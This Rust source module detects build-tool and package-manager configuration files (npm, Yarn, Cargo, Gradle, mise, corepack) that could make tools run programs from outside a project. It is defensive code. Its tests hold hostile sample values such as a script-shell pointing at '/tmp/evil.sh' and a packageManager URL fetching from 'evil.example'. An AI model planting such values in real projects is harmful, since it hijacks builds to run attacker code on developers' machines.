//! Configuration files that make a build tool, a package manager or a toolchain selector run a
//! program named in them: a `rustc-wrapper`, a `script-shell`, a `yarnPath` outside the
//! project, a toolchain `path`, a package manager downloaded from a URL. Tools read them from
//! the directory they start in and every directory above it, so the callers look in each.

use std::path::Path;

/// Files that may name programs whatever they hold (their languages are too rich to read:
/// cargo's `[build]`/`[target]` tables, Maven's JVM options and extensions, Bazel's rc, mise's
/// tasks, hooks and `[env]` sources).
const ALWAYS: &[&str] = &[
    ".cargo/config.toml",
    ".cargo/config",
    ".mvn/jvm.config",
    ".mvn/extensions.xml",
    ".mvn/maven.config",
    ".bazelrc",
    "mise.toml",
    ".mise.toml",
    "mise.local.toml",
    ".mise.local.toml",
    ".mise/config.toml",
    ".config/mise.toml",
    ".config/mise/config.toml",
    ".rtx.toml",
];

/// `KEY=VALUE` / `key: value` files whose keys the tool reads, and the keys among them whose
/// value is a program, a shell or code to run whatever it looks like. Any other key whose value
/// names a place outside the project (absolute, `~`, `..`, a URL that is not a registry) runs or
/// loads something from there.
const KEYED: &[(&str, &[&str])] = &[
    (
        ".npmrc",
        &[
            "script-shell",
            "node-options",
            "shell",
            "git",
            "editor",
            "onload-script",
            "init-module",
            "use-node-version",
            "globalconfig",
            "userconfig",
        ],
    ),
    (".yarnrc", &["yarn-path", "script-shell"]),
    (".yarnrc.yml", &["nodeOptions"]),
    ("bunfig.toml", &["shell"]),
    (".tool-versions", &[]),
];

/// Whether a configuration value names a place outside the project: an absolute path, the home
/// directory, a parent directory, a URL, or an asdf/mise `path:`/`ref:` version.
fn outside(value: &str) -> bool {
    let value = value.trim().trim_matches(['"', '\'']);
    value.contains("://")
        || value
            .split([' ', '\t', ',', '=', '[', ']', '"', '\''])
            .filter(|piece| !piece.is_empty())
            .any(|piece| {
                piece.starts_with(['/', '~', '\\'])
                    || (piece.len() > 5 && piece.starts_with("path:"))
                    || (piece.len() > 4 && piece.starts_with("ref:"))
                    || piece.split(['/', '\\']).any(|c| c == "..")
            })
}

/// Whether the text of a `KEY=VALUE` / `key: value` configuration names a program to run.
///
/// Each line is read alone, so only lines that say all they mean on their own are modeled:
/// a line that continues a value (no separator: a YAML plain scalar on the next line, a
/// TOML array's element), a multi-line string (`"""`), a YAML block scalar (`|`, `>`),
/// anchor, alias, tag or flow map, or a section header that is not a plain name counts as
/// naming a program. So does a value the tool expands (`${VAR}`, `$VAR`, `%VAR%`: Yarn
/// Berry and npm expand environment variables in their files) outside a registry line.
fn keyed_names_program(text: &str, code_keys: &[&str]) -> bool {
    text.lines().any(|line| {
        let line = line.trim();
        if line.is_empty() || line.starts_with(['#', ';']) || line == "---" {
            return false;
        }
        if line.contains("\"\"\"") || line.contains("'''") {
            return true;
        }
        if line.starts_with('[') {
            // `[toolchain]`, `[install.scopes]`, `[[x]]`; anything else is a value.
            return !line.ends_with(']')
                || !line
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "[]._-\" ".contains(c));
        }
        let Some(at) = line.find(['=', ':', ' ', '\t']) else {
            return true;
        };
        let (key, value) = (line[..at].trim(), &line[at + 1..]);
        let key = key.trim_matches(['"', '\'']);
        if value.trim().starts_with(['|', '>', '&', '*', '!', '{']) {
            return true;
        }
        // `registry=…`, `@scope:registry=…`, `//host/:_authToken=…`, `npmRegistryServer: …`.
        let registry = line.starts_with("//")
            || line
                .split(['=', ' ', '\t'])
                .next()
                .is_some_and(|k| k.to_ascii_lowercase().contains("registry"));
        let expands = value.contains(['$', '%']);
        code_keys.iter().any(|k| k.eq_ignore_ascii_case(key))
            || (!registry && (outside(value) || outside(key) || expands))
    })
}

/// Whether a `package.json` has corepack fetch its package manager from a URL
/// (`"packageManager": "yarn@https://…"`); an unreadable one may.
fn package_manager_from_url(text: &str) -> bool {
    let Ok(json) = serde_json::from_str::<serde_json::Value>(text) else {
        return true;
    };
    json.get("packageManager").is_some_and(|v| {
        v.as_str()
            .is_none_or(|s| s.contains(':') || s.contains('/'))
    })
}

/// The first file in `dir` that configures a tool to run a program from elsewhere, as the path
/// from `dir`; a file that cannot be read counts.
pub(crate) fn runs_programs(dir: &Path) -> Option<&'static str> {
    if let Some(name) = ALWAYS
        .iter()
        .find(|n| std::fs::symlink_metadata(dir.join(n)).is_ok())
    {
        return Some(name);
    }
    for (name, code_keys) in KEYED {
        let path = dir.join(name);
        if std::fs::symlink_metadata(&path).is_err() {
            continue;
        }
        match read(&path) {
            Some(text) if !keyed_names_program(&text, code_keys) => {}
            _ => return Some(name),
        }
    }
    let gradle = dir.join("gradle.properties");
    if std::fs::symlink_metadata(&gradle).is_ok()
        && read(&gradle).is_none_or(|text| {
            let text = text.to_ascii_lowercase();
            ["jvmargs", "javaagent", "initscript", "java.home"]
                .iter()
                .any(|k| text.contains(k))
        })
    {
        return Some("gradle.properties");
    }
    let package = dir.join("package.json");
    if std::fs::symlink_metadata(&package).is_ok()
        && read(&package).is_none_or(|t| package_manager_from_url(&t))
    {
        return Some("package.json");
    }
    None
}

/// Whether the configuration file at `path` (one of the names a toolchain reads) may name a
/// program to run: files whose keys are read are judged by what they hold, others count.
pub(crate) fn names_program(path: &Path) -> bool {
    let Some(name) = path.file_name().and_then(|n| n.to_str()) else {
        return true;
    };
    if name == "package.json" {
        return read(path).is_none_or(|t| package_manager_from_url(&t));
    }
    let Some((_, code_keys)) = KEYED.iter().find(|(n, _)| *n == name) else {
        return true;
    };
    read(path).is_none_or(|text| keyed_names_program(&text, code_keys))
}

/// The text of a configuration file, read without blocking and up to a size cap; `None`
/// when it cannot be read in full (missing, not a regular file, too long), which callers count
/// as naming a program.
fn read(path: &Path) -> Option<String> {
    crate::paths::small_file::read_text(path).ok().flatten()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keyed_files_name_programs_by_code_keys_and_places_outside() {
        let npm = KEYED[0].1;
        assert!(keyed_names_program("script-shell=/tmp/evil.sh\n", npm));
        assert!(keyed_names_program("node-options=--require ./x.js", npm));
        assert!(!keyed_names_program(
            "registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=${T}\nsave-exact=true",
            npm
        ));
        assert!(keyed_names_program("yarnPath: /tmp/evil.cjs", &[]));
        assert!(!keyed_names_program(
            "yarnPath: .yarn/releases/yarn-4.1.0.cjs\nnodeLinker: node-modules\nnpmRegistryServer: \"https://r.example\"",
            &["nodeOptions"]
        ));
        assert!(keyed_names_program("nodejs path:/tmp/evil-node", &[]));
        assert!(!keyed_names_program("nodejs 20.11.0\npython 3.12.1", &[]));
        assert!(keyed_names_program(
            "[toolchain]\npath = \"/tmp/evil-tc\"",
            &["path"]
        ));
        assert!(!keyed_names_program(
            "[toolchain]\nchannel = \"1.80\"\ncomponents = [\"clippy\"]",
            &["path"]
        ));
        assert!(keyed_names_program("[run]\nshell = \"bun\"", &["shell"]));
    }

    #[test]
    fn values_that_continue_or_expand_name_programs() {
        let yarn = KEYED[2].1;
        for text in [
            "yarnPath:\n  /tmp/evil.cjs",
            "yarnPath: >-\n  /tmp/evil.cjs",
            "yarnPath: |\n  /tmp/evil.cjs",
            "yarnPath: ${HOME}/evil.cjs",
            "yarnPath: \"${EVIL}\"",
            "yarnPath: $EVIL",
            "yarnPath: *anchor",
            "yarnPath: {a: /tmp/x}",
        ] {
            assert!(keyed_names_program(text, yarn), "{text}");
        }
        assert!(keyed_names_program("cache=${HOME}/x", KEYED[0].1));
        assert!(keyed_names_program(
            "preload = [\n\"/tmp/x.ts\"\n]",
            KEYED[3].1
        ));
        assert!(keyed_names_program(
            "preload = [\n  \"/tmp/x.ts\", \"./b.ts\"\n]",
            KEYED[3].1
        ));
        assert!(keyed_names_program(
            "x = \"\"\"\n/tmp/y\n\"\"\"",
            KEYED[3].1
        ));
        assert!(!keyed_names_program(
            "---\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\nnodeLinker: node-modules",
            yarn
        ));
        assert!(!keyed_names_program(
            "[install]\nexact = true\npreload = [\"./setup.ts\"]",
            KEYED[3].1
        ));
    }

    #[test]
    fn corepack_urls_are_programs_from_elsewhere() {
        assert!(package_manager_from_url(
            r#"{"packageManager":"yarn@https://evil.example/yarn.tgz"}"#
        ));
        assert!(!package_manager_from_url(
            r#"{"name":"x","packageManager":"pnpm@9.1.0+sha512.abc"}"#
        ));
        assert!(!package_manager_from_url(r#"{"name":"x"}"#));
        assert!(!keyed_names_program(
            "@acme:registry=https://npm.pkg.github.com\nplugins:\n  - path: .yarn/plugins/p.cjs",
            &[]
        ));
        assert!(package_manager_from_url("{ not json"));
    }
}
